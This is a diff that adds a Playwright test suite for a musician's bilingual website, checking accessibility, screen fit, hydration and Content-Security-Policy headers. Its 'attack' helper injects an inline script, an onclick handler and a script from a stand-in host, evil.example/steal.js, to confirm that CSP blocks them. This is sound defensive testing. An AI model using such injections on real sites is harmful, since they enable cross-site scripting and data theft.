@@ -1,0 +1,79 @@
+import { expect, test, type Page } from '@playwright/test';
+
+import { expectAccessible, overflowOf, seeEverything } from './support/axe';
+import { expectStrict } from './support/policy';
+import { addStyle } from './support/style';
+import { watchViolations } from './support/violations';
+
+// Whatever moves or loads on them does so when it is seen.
+const lively = ['/', '/de', '/news', '/de/news', '/press', '/biography/aura', '/tours'];
+const pages = [
+  ...['/', '/de', '/news', '/de/news', '/de/news/page/2', '/news/category/journal'],
+  ...['/2026/08/northbound', '/de/2026/08/northbound'],
+  ...['/category/concerts-tours', '/category/uncategorized', '/de/tag/piano-keys'],
+  ...['/events', '/de/veranstaltungen', '/events/page/2', '/de/vergangene-veranstaltungen'],
+  ...['/events/one-note-at-ten-to-nine', '/de/veranstaltungen/the-bowl-and-the-eighty-chairs'],
+  ...['/videos', '/de/videos', '/videos/rims', '/de/videos/rims'],
+  ...['/music', '/de/musik', '/music/night-grammar', '/de/musik/night-grammar'],
+  ...['/tours', '/de/touren', '/tours/music-love-tour', '/de/touren/aura-lune-tour'],
+  ...['/biography', '/de/biografie', '/biography/aura', '/de/biografie/lune'],
+  ...['/press', '/de/presse', '/search', '/de/suche', '/search?q=piano'],
+  ...['/contact', '/de/kontakt', '/contact/thanks', '/de/kontakt/danke'],
+  ...['/legal-notices', '/de/impressum', '/disclaimer', '/de/haftungsausschluss'],
+];
+const missing = ['/nope', '/de/nope', '/events/no-such-event', '/search/1/d2ludGVy'];
+
+for (const path of [...pages, ...missing]) {
+  test(`${path} is accessible, fits every screen, and runs what its policy lets it`, async ({
+    page,
+  }) => {
+    test.setTimeout(120_000);
+    const violations = await watchViolations(page);
+    const isLively = lively.includes(path);
+    if (!isLively) await page.emulateMedia({ reducedMotion: 'reduce' });
+    for (const width of [390, 1440]) {
+      await page.setViewportSize({ width, height: 900 });
+      const response = await page.goto(path);
+      if (isLively || width === 1440) await seeEverything(page);
+      await expectAccessible(page);
+      expectStrict(await response!.headerValue('content-security-policy'));
+    }
+
+    await page.setViewportSize({ width: 320, height: 640 });
+    expect(await overflowOf(page)).toBe(0);
+    await addStyle(page, 'html { font-size: 200% }');
+    expect(await overflowOf(page)).toBe(0);
+
+    await expectHydrated(page);
+    // The browser itself writes that a missing page is missing.
+    if (missing.includes(path)) expect(violations.stopped).toEqual([]);
+    else violations.expectNone();
+
+    await attack(page);
+    await expect
+      .poll(() => violations.stopped.map((each) => each.split(' ')[1]).sort())
+      .toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
+    expect(await page.evaluate(() => (window as { isBroken?: string }).isBroken)).toBeUndefined();
+  });
+}
+
+async function expectHydrated(page: Page): Promise<void> {
+  await expect
+    .poll(() => page.evaluate(() => Object.keys(document.body).join().includes('__react')))
+    .toBe(true);
+}
+
+/** What a page could be made to do by somebody who got words of theirs into it. */
+async function attack(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.isBroken = "by an inline script"';
+    document.body.append(script);
+    const button = document.createElement('button');
+    button.setAttribute('onclick', 'window.isBroken = "by an attribute"');
+    button.click();
+    const foreign = document.createElement('script');
+    foreign.src = 'https://evil.example/steal.js';
+    document.body.append(foreign);
+  });
+}
